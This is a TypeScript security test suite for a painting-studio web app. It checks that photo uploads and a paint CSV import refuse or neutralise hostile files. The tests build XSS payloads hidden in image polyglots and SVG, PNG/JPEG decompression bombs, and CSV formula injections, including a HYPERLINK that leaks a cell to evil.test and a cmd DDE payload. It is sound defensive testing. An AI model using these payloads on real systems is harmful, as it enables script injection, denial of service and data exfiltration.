// Hostile uploads on every route that takes files: the studio's photos (owner and painter), a client's
// reference photos, the public enquiry form, and the paint rack's CSV import (text inside JSON).
// What must hold: only re-encoded pixels are ever stored or served; anything that is not a JPEG, PNG or
// WebP photo is refused by its content; limits answer with clear JSON errors; a refused upload leaves
// no row and no file behind, not even a temporary one.
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import sharp from 'sharp';
import type { Response } from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ENQUIRY_MAX_PHOTO_BYTES } from '../../shared/schemas/enquiries';
import { MAX_PHOTO_BYTES } from '../../shared/schemas/photos';
import { Caller, startTestApp, twoStudios, type TestApp } from '../support/app';
import { insertCommission, upload, type UploadFile } from '../support/fixtures';

let sw: TestApp;
let s: Awaited<ReturnType<typeof twoStudios>>;
let photosUrl: string;
let slug: string;
let ipCounter = 0;
let emailCounter = 0;

/** What a browser would run if it ever took one of these files for a page. */
const PAYLOAD = '<html><body><script>alert(document.cookie)</script><img src=x onerror=alert(1)></body></html>';
const payloadBytes = Buffer.from(PAYLOAD);

// --- hand-made hostile files ---------------------------------------------------------------------

const smallJpeg = () => sharp({ create: { width: 64, height: 48, channels: 3, background: '#7a4b2a' } }).jpeg().toBuffer();
const smallPng = () => sharp({ create: { width: 40, height: 30, channels: 3, background: '#2c6fbb' } }).png().toBuffer();

/** A real JPEG carrying the payload twice: in a comment segment (COM, 0xFFFE) after SOI, and appended after EOI. */
async function jpegPolyglot() {
  const jpeg = await smallJpeg();
  const com = Buffer.concat([Buffer.from([0xff, 0xfe, (payloadBytes.length + 2) >> 8, (payloadBytes.length + 2) & 0xff]), payloadBytes]);
  return Buffer.concat([jpeg.subarray(0, 2), com, jpeg.subarray(2), payloadBytes]);
}

/** The classic GIF/JavaScript polyglot: a GIF header that also parses as a script (`GIF89a=...`). */
const gifPolyglot = () => Buffer.from(`GIF89a/*\x0a\x00\x0a\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00*/=1;alert(1);/*\x2c\x00\x00\x00\x00\x0a\x00\x0a\x00\x00\x02\x02\x44\x01\x00;*/`, 'latin1');

const svgWithScript = () =>
  Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="alert(2)"><script>alert(1)</script><rect width="40" height="40" fill="#286B5E"/></svg>`);

function crc32(buf: Buffer) {
  let crc = 0xffffffff;
  for (const byte of buf) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = crc & 1 ? 0xedb88320 ^ (crc >>> 1) : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}
const pngChunk = (type: string, data: Buffer) => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const out = Buffer.alloc(8 + data.length + 4);
  out.writeUInt32BE(data.length, 0);
  body.copy(out, 4);
  out.writeUInt32BE(crc32(body), 8 + data.length);
  return out;
};

/**
 * A decompression bomb: a valid 1-bit greyscale PNG of 20000 × 20000 pixels, all black. The deflated
 * rows are about 50 kB; decoded to 8-bit pixels the picture would take 400 MB.
 */
function pngBomb(side = 20000) {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(side, 0);
  ihdr.writeUInt32BE(side, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // greyscale
  const rows = Buffer.alloc((Math.ceil(side / 8) + 1) * side); // filter byte 0 and zero bits per row
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', ihdr), pngChunk('IDAT', zlib.deflateSync(rows, { level: 9 })), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A small JPEG whose frame header (SOF0) claims 60000 × 60000 pixels. */
async function jpegBomb() {
  const jpeg = Buffer.from(await smallJpeg());
  for (let i = 2; i < jpeg.length - 9; i++) {
    if (jpeg[i] === 0xff && jpeg[i + 1] === 0xc0) {
      jpeg.writeUInt16BE(60000, i + 5);
      jpeg.writeUInt16BE(60000, i + 7);
      return jpeg;
    }
  }
  throw new Error('no SOF0 marker in the test JPEG');
}

/** A PNG cut in half: the header reads fine, the pixels do not. */
async function truncatedPng() {
  const noisy = await sharp({ create: { width: 300, height: 300, channels: 3, background: '#000', noise: { type: 'gaussian', mean: 128, sigma: 40 } } }).png().toBuffer();
  return noisy.subarray(0, Math.floor(noisy.length / 2));
}

// --- the routes ----------------------------------------------------------------------------------

/** Every file under DATA_DIR except the database itself: photos, their temp folder, anything else. */
function filesOnDisk(): string[] {
  return (fs.readdirSync(sw.dataDir, { recursive: true }) as string[])
    .filter((p) => fs.statSync(path.join(sw.dataDir, p)).isFile() && !/\.(sqlite|db)(-wal|-shm|-journal)?$/.test(p))
    .sort();
}
const incoming = () => fs.readdirSync(path.join(sw.dataDir, 'photos', '.incoming'));

type Served = { url: string };
type Target = {
  name: string;
  send(files: UploadFile[]): Promise<Response>;
  /** Rows that an upload on this route adds. */
  rows(): Promise<number>;
  /** The file addresses of what the last accepted upload stored, as the owner fetches them. */
  served(res: Response): Promise<Served[]>;
  maxBytes: number;
};

const count = async (table: string) => Number((await sw.db(table).count({ n: '*' }).first())!.n);

let targets: Target[];

beforeAll(async () => {
  sw = await startTestApp({ trustProxy: true });
  s = await twoStudios(sw);
  const commissionId = await insertCommission(sw, s.a.studioId, s.a.clientId);
  photosUrl = `/api/studios/${s.a.studioId}/commissions/${commissionId}/photos`;
  const page = await s.a.owner.put(`/api/studios/${s.a.studioId}/public-page`, { enabled: true, turnaroundSource: 'text', turnaroundText: 'A few weeks.' });
  expect(page.status, JSON.stringify(page.body)).toBe(200);
  slug = page.body.slug;

  const photoUrls = (res: Response) => (res.body as { urls: Record<string, string> }[]).flatMap((p) => Object.values(p.urls).map((url) => ({ url })));
  targets = [
    { name: 'studio photos (owner)', send: (f) => upload(s.a.owner, photosUrl, f, { kind: 'progress' }), rows: () => count('photos'), served: async (r) => photoUrls(r), maxBytes: MAX_PHOTO_BYTES },
    { name: 'reference photos (client)', send: (f) => upload(s.a.client, photosUrl, f, { kind: 'reference' }), rows: () => count('photos'), served: async (r) => photoUrls(r), maxBytes: MAX_PHOTO_BYTES },
    {
      name: 'public enquiry photos',
      async send(files) {
        const c = new Caller(sw.app);
        const token = await c.csrf();
        let req = c.agent.post(`/api/public/studios/${slug}/enquiries`).set('x-csrf-token', token).set('x-forwarded-for', `198.51.100.${++ipCounter}`);
        const fields = { name: 'Vera Quillon', email: `visitor-${++emailCounter}@demo.test`, figures: JSON.stringify([{ name: 'Marsh heron', quantity: 1, sizeClass: '32' }]), consent: 'true' };
        for (const [k, v] of Object.entries(fields)) req = req.field(k, v);
        for (const f of files) req = req.attach('photos', f.data, { filename: f.name, contentType: f.type ?? 'image/jpeg' });
        return req;
      },
      rows: async () => (await count('enquiries')) + (await count('enquiry_photos')),
      async served() {
        const e = await sw.db('enquiries').where({ studio_id: s.a.studioId }).orderBy('id', 'desc').first('id');
        const view = await s.a.owner.get(`/api/studios/${s.a.studioId}/enquiries/${e.id}`).expect(200);
        return (view.body.photos as { urls: Record<string, string> }[]).flatMap((p) => Object.values(p.urls).map((url) => ({ url })));
      },
      maxBytes: ENQUIRY_MAX_PHOTO_BYTES,
    },
  ];
});
afterAll(() => sw.stop());

/** Sends a file that must be refused, and checks that no row and no file (temporary or final) stays. */
async function refused(t: Target, files: UploadFile[], status: number) {
  const rowsBefore = await t.rows();
  const filesBefore = filesOnDisk();
  const res = await t.send(files);
  expect(res.status, `${t.name}: ${JSON.stringify(res.body)}`).toBe(status);
  expect(res.headers['content-type'], t.name).toMatch(/^application\/json/);
  expect(typeof res.body.error?.message, t.name).toBe('string');
  expect(await t.rows(), `${t.name}: rows after a refusal`).toBe(rowsBefore);
  expect(filesOnDisk(), `${t.name}: files after a refusal`).toEqual(filesBefore);
  expect(incoming(), `${t.name}: temp files after a refusal`).toEqual([]);
  return res;
}

describe('polyglot files', () => {
  it('a JPEG with an HTML/script payload in a comment and after its end is taken, but only re-encoded pixels are stored', async () => {
    const poly = await jpegPolyglot();
    expect(poly.includes(payloadBytes)).toBe(true);
    expect((await sharp(poly).metadata()).format).toBe('jpeg');
    for (const t of targets) {
      const before = new Set(filesOnDisk());
      const res = await t.send([{ data: poly, name: 'scout.html', type: 'text/html' }]);
      expect(res.status, `${t.name}: ${JSON.stringify(res.body)}`).toBe(201);
      const stored = filesOnDisk().filter((f) => !before.has(f));
      expect(stored.length, t.name).toBe(4); // original and three renditions
      for (const f of stored) {
        const bytes = fs.readFileSync(path.join(sw.dataDir, f));
        expect(bytes.includes(payloadBytes), `${t.name}: ${f} carries the payload`).toBe(false);
        expect(bytes.includes(Buffer.from('<script')), `${t.name}: ${f} carries a script tag`).toBe(false);
        expect(bytes.includes(Buffer.from('onerror')), `${t.name}: ${f}`).toBe(false);
      }
      expect(incoming(), t.name).toEqual([]);
    }
  });

  it('serves the stored files as images a browser will not sniff, run or frame, under our own file name', async () => {
    const poly = await jpegPolyglot();
    for (const t of targets) {
      const res = await t.send([{ data: poly, name: '"><script>alert(1)</script>.html', type: 'text/html' }]);
      expect(res.status, t.name).toBe(201);
      const files = await t.served(res);
      expect(files.length, t.name).toBe(4);
      for (const { url } of files) {
        const r = await s.a.owner.get(url).buffer(true).expect(200);
        expect(r.headers['content-type'], `${t.name} ${url}`).toMatch(/^image\/(jpeg|webp)$/);
        expect(r.headers['x-content-type-options'], url).toBe('nosniff');
        // Our own name only: nothing from the uploaded file name reaches the header.
        expect(r.headers['content-disposition'], url).toMatch(/^(inline|attachment); filename="[a-z0-9-]+\.(jpg|webp)"$/);
        // Opened on its own, the file gets no script, no plugin, no form, and a unique origin.
        const csp = String(r.headers['content-security-policy']);
        expect(csp, url).toMatch(/default-src 'none'/);
        expect(csp, url).toMatch(/\bsandbox\b/);
        expect((r.body as Buffer).includes(payloadBytes), url).toBe(false);
        const meta = await sharp(r.body as Buffer).metadata();
        expect(['jpeg', 'webp'], url).toContain(meta.format);
        expect(meta.comments ?? [], url).toEqual([]);
      }
    }
  });

  it('a PNG with a script in a text chunk keeps its pixels and loses the chunk', async () => {
    const png = await smallPng();
    const iend = png.length - 12;
    const withText = Buffer.concat([png.subarray(0, iend), pngChunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), payloadBytes])), png.subarray(iend)]);
    expect((await sharp(withText).metadata()).format).toBe('png');
    const before = new Set(filesOnDisk());
    const res = await targets[0].send([{ data: withText, name: 'shaman.png', type: 'image/png' }]);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    for (const f of filesOnDisk().filter((x) => !before.has(x))) expect(fs.readFileSync(path.join(sw.dataDir, f)).includes(payloadBytes), f).toBe(false);
  });

  it('a GIF that is also a script is refused by its content, whatever its name and type say', async () => {
    for (const t of targets) {
      for (const f of [
        { data: gifPolyglot(), name: 'banner.gif', type: 'image/gif' },
        { data: gifPolyglot(), name: 'banner.jpg', type: 'image/jpeg' },
      ]) {
        const res = await refused(t, [f], 415);
        expect(res.body.error.code).toBe('unsupported_media');
      }
    }
  });
});

describe('SVG and lying content types', () => {
  it('an SVG with a script is refused as .svg and as .jpg, sent as image/svg+xml or as image/jpeg', async () => {
    for (const t of targets) {
      for (const [name, type] of [
        ['crest.svg', 'image/svg+xml'],
        ['crest.jpg', 'image/jpeg'],
        ['crest.svg', 'image/jpeg'],
        ['crest.jpg', 'image/svg+xml'],
      ]) {
        const res = await refused(t, [{ data: svgWithScript(), name, type }], 415);
        expect(res.body.error.code, `${t.name} ${name} ${type}`).toBe('unsupported_media');
      }
    }
  });

  it('judges the content, not the declared type: a PNG sent as image/jpeg is stored and served as a PNG', async () => {
    for (const t of targets) {
      const res = await t.send([{ data: await smallPng(), name: 'base.jpg', type: 'image/jpeg' }]);
      expect(res.status, t.name).toBe(201);
      const original = (await t.served(res)).find((f) => f.url.endsWith('/original'))!;
      const r = await s.a.owner.get(original.url).buffer(true).expect(200);
      expect(r.headers['content-type'], t.name).toBe('image/png');
      expect(r.headers['content-disposition'], t.name).toMatch(/\.png"$/);
      expect((await sharp(r.body as Buffer).metadata()).format).toBe('png');
    }
  });

  it('an HTML page sent as image/jpeg, or with a JPEG magic number in front, is refused', async () => {
    const html = Buffer.from(PAYLOAD);
    const fakeMagic = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), html]);
    for (const t of targets) {
      await refused(t, [{ data: html, name: 'photo.jpg', type: 'image/jpeg' }], 415);
      await refused(t, [{ data: fakeMagic, name: 'photo.jpg', type: 'image/jpeg' }], 415);
    }
  });
});

describe('size and pixel limits', () => {
  it('a file over the route’s byte limit gets 413 with a JSON error naming the limit', async () => {
    for (const t of targets) {
      // A JPEG start and then nothing: the size alone must decide, before any decoding.
      const big = Buffer.alloc(t.maxBytes + 1, 0);
      Buffer.from([0xff, 0xd8, 0xff]).copy(big);
      const res = await refused(t, [{ data: big, name: 'huge.jpg' }], 413);
      expect(res.body.error.code).toBe('too_large');
      expect(res.body.error.fields.photos, t.name).toBe(`At most ${t.maxBytes / 1024 / 1024} MB per photo.`);
    }
  });

  it('a decompression bomb (a 48 kB PNG of 20000 × 20000 pixels) gets 422 at once, without decoding it', async () => {
    const bomb = pngBomb();
    expect(bomb.length).toBeLessThan(100 * 1024);
    const jbomb = await jpegBomb();
    for (const t of targets) {
      for (const [what, data] of [
        ['png', bomb],
        ['jpeg', jbomb],
      ] as const) {
        const rssBefore = process.memoryUsage().rss;
        const started = performance.now();
        const res = await refused(t, [{ data, name: `bomb.${what}`, type: `image/${what}` }], 422);
        const took = performance.now() - started;
        expect(res.body.error.code, `${t.name} ${what}`).toBe('unprocessable');
        expect(res.body.error.fields.photos, `${t.name} ${what}`).toBe('At most 40 megapixels.');
        // Decoding 400 MP would take seconds and hundreds of MB; the header alone decides.
        expect(took, `${t.name} ${what} took ${Math.round(took)} ms`).toBeLessThan(2000);
        expect(process.memoryUsage().rss - rssBefore, `${t.name} ${what}: memory`).toBeLessThan(100 * 1024 * 1024);
      }
    }
  });

  it('a zero-byte file and a truncated image are refused as unreadable (415), leaving nothing behind', async () => {
    const cut = await truncatedPng();
    const cutJpeg = (await sharp({ create: { width: 300, height: 300, channels: 3, background: '#000', noise: { type: 'gaussian', mean: 128, sigma: 40 } } }).jpeg().toBuffer()).subarray(0, 600);
    for (const t of targets) {
      for (const [what, data, type] of [
        ['empty', Buffer.alloc(0), 'image/jpeg'],
        ['truncated png', cut, 'image/png'],
        ['truncated jpeg', cutJpeg, 'image/jpeg'],
      ] as const) {
        const res = await refused(t, [{ data, name: 'figure.jpg', type }], 415);
        expect(res.body.error.code, `${t.name} ${what}`).toBe('unsupported_media');
      }
    }
  });

  it('one hostile file among good ones fails the whole upload and leaves no file of the good ones', async () => {
    const good = await smallJpeg();
    for (const t of targets) {
      await refused(t, [{ data: good, name: 'good.jpg' }, { data: await truncatedPng(), name: 'cut.png', type: 'image/png' }], 415);
      await refused(t, [{ data: good, name: 'good.jpg' }, { data: pngBomb(), name: 'bomb.png', type: 'image/png' }], 422);
    }
  });
});

describe('paint rack CSV import', () => {
  const A = () => `/api/studios/${s.a.studioId}/paints`;

  it('keeps formula and script payloads as plain text, and the export guards every formula start', async () => {
    const csv = [
      'Name,Maker,Type,Colour,Notes',
      '"=HYPERLINK(""http://evil.test/?""&A1,""Click"")",Invented Pots,Base,#112233,"<script>alert(1)</script>"',
      '+SUM(1+1),Invented Pots,Layer,#223344,"""><img src=x onerror=alert(1)>"',
      '-2+3,Invented Pots,Layer,#334455,@cmd|\' /C calc\'!A0',
      '@SUM(A1),Invented Pots,Wash,#445566,javascript:alert(1)',
    ].join('\r\n');
    const res = await s.a.owner.post(`${A()}/import`, { csv });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    const list = await s.a.owner.get(A()).expect(200);
    const names = (list.body.items ?? list.body).map((p: { name: string }) => p.name);
    expect(names).toEqual(expect.arrayContaining(['=HYPERLINK("http://evil.test/?"&A1,"Click")', '+SUM(1+1)', '-2+3', '@SUM(A1)']));
    const notes = (list.body.items ?? list.body).map((p: { notes: string | null }) => p.notes);
    expect(notes).toEqual(expect.arrayContaining(['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "@cmd|' /C calc'!A0", 'javascript:alert(1)']));

    const out = await s.a.owner.get(`${A()}/export`).expect(200);
    expect(out.headers['content-type']).toMatch(/^text\/csv/);
    expect(out.headers['content-disposition']).toMatch(/^attachment/);
    const { parse } = await import('csv-parse/sync');
    const cells = (parse(out.text, { bom: true }) as string[][]).slice(1).flat();
    for (const c of cells) expect(c, `cell ${JSON.stringify(c)}`).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toEqual(expect.arrayContaining(["'=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")", "'+SUM(1+1)", "'-2+3", "'@SUM(A1)", "'@cmd|' /C calc'!A0"]));

    // And the guarded export imports back to the same text.
    await s.b.owner.post(`/api/studios/${s.b.studioId}/paints/import`, { csv: out.text }).then((r) => expect(r.status).toBe(200));
    const back = await s.b.owner.get(`/api/studios/${s.b.studioId}/paints`).expect(200);
    expect((back.body.items ?? back.body).map((p: { name: string }) => p.name)).toEqual(expect.arrayContaining(['-2+3', '@SUM(A1)']));
  });

  it('binary junk as CSV reads as no paints (no 500), and a body over 1 MB gets 413 with a JSON error', async () => {
    const junk = (await smallJpeg()).toString('latin1') + '\u0000\u0000';
    const res = await s.a.owner.post(`${A()}/import`, { csv: junk });
    expect(res.status, JSON.stringify(res.body)).toBeLessThan(500);
    expect(res.headers['content-type']).toMatch(/^application\/json/);

    const tooLong = await s.a.owner.post(`${A()}/import`, { csv: `Name,Type\n${'xx,Base\n'.repeat(115_000)}` });
    expect(tooLong.status).toBe(400);
    expect(tooLong.body.error.fields.csv).toMatch(/too large/);

    const huge = await s.a.owner.post(`${A()}/import`, { csv: 'a'.repeat(1_100_000) });
    expect(huge.status).toBe(413);
    expect(huge.headers['content-type']).toMatch(/^application\/json/);
    expect(huge.body.error.code).toBe('too_large');
  });
});
